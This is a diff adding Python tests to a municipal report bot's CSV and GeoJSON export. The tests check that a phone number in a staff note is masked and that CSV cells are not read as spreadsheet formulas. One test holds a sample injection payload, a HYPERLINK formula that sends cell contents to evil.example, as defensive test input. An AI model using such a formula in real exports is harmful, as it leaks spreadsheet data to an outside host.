@@ -3,10 +3,13 @@ never the resident key."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import date, datetime, timedelta
 
 from bot.reports.export import export_csv, export_geojson
+from bot.reports.service import change_status
 from tests.support.reports import BASE, CATEGORIES, NOW, draft, submit
 
 
@@ -43,3 +46,36 @@ def test_the_range_is_city_days_whatever_the_server_zone(factory, far_server_tz:
         "2025-06-01T00:00:00+09:00",
         "2025-06-01T23:59:00+09:00",
     ]
+
+
+def _cells(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def test_masking_covers_the_staff_note_in_csv_and_geojson(factory) -> None:  # type: ignore[no-untyped-def]
+    """Issue 17, item 2: the latest note is masked like the description (the detail page masks it too)."""
+    outcome = submit(factory, draft(description="穴です"))
+    change_status(
+        factory, outcome.report_id, "確認中", actor="staff", note="090-1234-5678 の方に折り返し済み"
+    )
+    with factory() as session:
+        masked_csv = export_csv(session, date(2025, 6, 1), date(2025, 6, 30), CATEGORIES, mask=True)
+        masked_geo = export_geojson(session, date(2025, 6, 1), date(2025, 6, 30), CATEGORIES, mask=True)
+        raw_csv = export_csv(session, date(2025, 6, 1), date(2025, 6, 30), CATEGORIES)
+    masked_note = "[電話番号] の方に折り返し済み"
+    assert _cells(masked_csv)[0]["最新のメモ"] == masked_note
+    assert masked_geo["features"][0]["properties"]["latest_note"] == masked_note
+    assert "090-1234-5678" not in masked_csv.decode("utf-8-sig") + json.dumps(masked_geo, ensure_ascii=False)
+    assert _cells(raw_csv)[0]["最新のメモ"] == "090-1234-5678 の方に折り返し済み"  # unmasked on request
+
+
+def test_no_csv_cell_is_a_formula(factory) -> None:  # type: ignore[no-untyped-def]
+    """Issue 17, item 1: the resident's description and address and the staff note are written as text."""
+    attack = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'
+    outcome = submit(factory, draft(description=attack, address_text="@中央町"))
+    change_status(factory, outcome.report_id, "確認中", actor="staff", note="+ 現地確認")
+    with factory() as session:
+        data = export_csv(session, date(2025, 6, 1), date(2025, 6, 30), CATEGORIES)
+    row = _cells(data)[0]
+    assert (row["内容"], row["場所"], row["最新のメモ"]) == ("'" + attack, "'@中央町", "'+ 現地確認")
+    assert row["緯度"] == str(BASE[0])
